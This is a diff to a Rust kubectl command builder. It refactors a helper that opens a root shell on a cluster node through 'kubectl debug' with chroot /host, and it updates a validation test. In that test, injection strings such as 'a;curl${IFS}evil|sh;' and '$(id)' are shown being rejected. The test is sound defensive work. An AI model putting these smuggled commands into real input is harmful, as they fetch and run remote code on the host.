@@ -19,6 +19,11 @@ impl Kubectl {
         }
     }
 
+    /// Up to the words for a shell on the node: `kubectl debug` brings one along.
+    pub fn on_node(node: &str) -> Self {
+        Kubectl::new().say(" debug node/").name(node).say(" -it --image=busybox -- chroot /host ")
+    }
+
     /// Words of our own.
     pub fn say(mut self, words: &str) -> Self {
         if let Some(text) = &mut self.0 {
@@ -51,11 +56,6 @@ impl Default for Kubectl {
     }
 }
 
-/// What a shell of the node answers: `kubectl debug` brings one along.
-pub fn on_node(node: &str, words: &str) -> Option<String> {
-    Kubectl::new().say(" debug node/").name(node).say(" -it --image=busybox -- chroot /host ").say(words).finish()
-}
-
 fn is_name(name: &str) -> bool {
     let label = |l: &str| {
         let edge = |b: Option<&u8>| b.is_some_and(|b| b.is_ascii_lowercase() || b.is_ascii_digit());
@@ -73,10 +73,8 @@ mod tests {
     fn a_name_that_no_object_can_have_gives_no_command() {
         let logs = |ns: &str, pod: &str, c: &str| Kubectl::within(Some(ns)).say(" logs ").name(pod).container(Some(c)).finish();
         assert_eq!(logs("shop", "cart-0", "app").as_deref(), Some("kubectl -n shop logs cart-0 -c app"));
-        assert_eq!(
-            on_node("ip-10-0-1-7.eu.internal", "id").as_deref(),
-            Some("kubectl debug node/ip-10-0-1-7.eu.internal -it --image=busybox -- chroot /host id")
-        );
+        let id = Kubectl::on_node("ip-10-0-1-7.eu.internal").say("id").finish();
+        assert_eq!(id.as_deref(), Some("kubectl debug node/ip-10-0-1-7.eu.internal -it --image=busybox -- chroot /host id"));
         for bad in ["a;curl${IFS}evil|sh;", "$(id)", "-o", "a b", "`id`", "A", "", "a\nb", "..", "a/b"] {
             assert_eq!(logs(bad, "cart-0", "app"), None, "{bad}");
             assert_eq!(logs("shop", bad, "app"), None, "{bad}");
